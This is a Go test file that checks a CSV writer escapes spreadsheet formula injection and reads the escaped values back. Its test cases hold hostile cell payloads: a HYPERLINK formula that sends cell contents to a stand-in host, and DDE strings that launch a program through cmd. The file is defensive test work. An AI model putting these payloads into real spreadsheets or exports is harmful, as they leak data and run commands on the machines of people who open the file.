package batch_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vivavoice/viva/stages/evaluate/batch"
)

// No field that somebody else has worded is a formula to a spreadsheet, and each can be read back.
func TestCells(t *testing.T) {
	for text, want := range map[string]string{
		`=HYPERLINK("http://evil.example?"&A1,"open")`: `'=HYPERLINK("http://evil.example?"&A1,"open")`,
		"+1+cmd|' /C calc'!A0":                         "'+1+cmd|' /C calc'!A0",
		"-2+3":                                         "'-2+3",
		"@SUM(1)":                                      "'@SUM(1)",
		"\t=1":                                         "'\t=1",
		"\r=1":                                         "'\r=1",
		"'=1":                                          "''=1",
		"-5":                                           "-5",
		"+0.25":                                        "+0.25",
		"'tis so":                                      "'tis so",
		"a = b":                                        "a = b",
		"":                                             "",
		"'":                                            "'",
		"{}":                                           "{}",
	} {
		if got := batch.Cell(text); got != want {
			t.Errorf("%q is written as %q, want %q", text, got, want)
		}
		if got := batch.Text(batch.Cell(text)); got != text {
			t.Errorf("%q is read back as %q", text, got)
		}
	}
}

// A table that is judged comes out without formulas, whatever stood in it, and what was written so already stays.
func TestJudgedTableHasNoFormulas(t *testing.T) {
	dir := t.TempDir()
	in, out := filepath.Join(dir, "in.csv"), filepath.Join(dir, "out.csv")
	table := "input_text,prediction,groundtruth,=note\nWhat is it?,=1+1,=1+1,\"=cmd|' /C calc'!A0\"\nAnd then?,-5,-5,'+1 x\n"
	if err := os.WriteFile(in, []byte(table), 0o600); err != nil {
		t.Fatal(err)
	}
	if s, err := batch.File(context.Background(), in, out, false, options(t, batch.CSV)); err != nil || s.Rows != 2 {
		t.Fatalf("%+v %v", s, err)
	}
	text, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatal(rows, err)
	}
	for _, row := range rows {
		for _, field := range row {
			if strings.HasPrefix(field, "=") || strings.HasPrefix(field, "+") {
				t.Errorf("a formula: %q", field)
			}
		}
	}
	if rows[0][3] != "'=note" || rows[1][1] != "'=1+1" || rows[2][1] != "-5" || rows[2][3] != "'+1 x" {
		t.Errorf("%q", rows)
	}
}
